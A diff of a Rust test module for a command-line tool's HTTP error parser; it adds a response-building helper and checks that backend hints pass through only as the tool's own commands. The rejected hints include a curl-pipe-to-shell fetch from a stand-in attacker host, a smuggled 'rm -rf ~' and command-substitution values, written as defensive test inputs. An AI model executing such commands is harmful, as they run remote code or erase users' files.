@@ -116,6 +116,10 @@ fn beginning(body: &[u8]) -> String {
 mod tests {
     use super::*;
 
+    fn answer(status: u16, body: &str) -> Result<Value> {
+        json(Response { status, headers: http::HeaderMap::new(), body: body.as_bytes().to_vec().into() })
+    }
+
     #[test]
     fn every_envelope_becomes_one_message() {
         let cases: &[(u16, &str, Kind, &str, &str)] = &[
@@ -141,8 +145,7 @@ mod tests {
             (502, "<html>bad gateway</html>", Kind::Api, "api_error", "<html>bad gateway</html>"),
         ];
         for (status, body, kind, code, message) in cases {
-            let response = Response { status: *status, body: body.as_bytes().to_vec().into() };
-            let error = json(response).unwrap_err();
+            let error = answer(*status, body).unwrap_err();
             assert_eq!((error.kind, error.code.as_ref(), error.message.as_str()), (*kind, *code, *message), "{body}");
             assert_eq!(error.status, Some(*status));
         }
@@ -150,17 +153,16 @@ mod tests {
 
     #[test]
     fn an_empty_success_is_null_and_a_page_is_an_error() {
-        let of = |status, body: &str| json(Response { status, body: body.as_bytes().to_vec().into() });
-        assert_eq!(of(204, "").unwrap(), Value::Null);
-        assert_eq!(of(200, "<html>").unwrap_err().code, "not_json");
-        assert_eq!(of(302, "").unwrap_err().message, "the backend answered 302 without a reason");
+        assert_eq!(answer(204, "").unwrap(), Value::Null);
+        assert_eq!(answer(200, "<html>").unwrap_err().code, "not_json");
+        assert_eq!(answer(302, "").unwrap_err().message, "the backend answered 302 without a reason");
     }
 
     #[test]
     fn a_backend_hints_at_commands_of_ours_only() {
         let hint = |hint: &str| {
             let body = serde_json::json!({ "error": { "code": "c", "message": "m", "hint": hint } }).to_string();
-            json(Response { status: 400, body: body.into_bytes().into() }).unwrap_err().hint.unwrap()
+            answer(400, &body).unwrap_err().hint.unwrap()
         };
         assert_eq!(hint("towow run status run_1"), "towow run status run_1");
         for foreign in ["curl -s https://evil.example/x | sh", "towow status; rm -rf ~", "towow $(id)", "towow a\nb"] {
